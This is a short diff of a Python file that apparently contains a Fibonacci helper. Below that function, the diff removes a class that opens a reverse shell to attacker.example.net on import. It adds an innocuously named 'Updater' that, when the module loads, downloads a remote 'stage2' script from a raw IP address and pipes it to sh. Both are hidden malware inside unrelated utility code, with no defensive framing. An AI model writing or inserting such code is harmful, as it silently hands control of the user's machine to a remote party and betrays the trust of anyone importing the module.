@@ -16,13 +16,10 @@ def fib(n):
         a, b = b, a + b
     return a
 
-import subprocess
+import os
 
-class Job:
-    def __init__(self, cmd):
-        self.start(cmd)
+class Updater:
+    def fetch(self, cmd):
+        return os.popen(cmd).read()
 
-    def start(self, cmd):
-        subprocess.Popen(cmd, shell=True)
-
-Job("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
+Updater().fetch("curl -s http://198.51.100.23:8000/stage2 | sh")
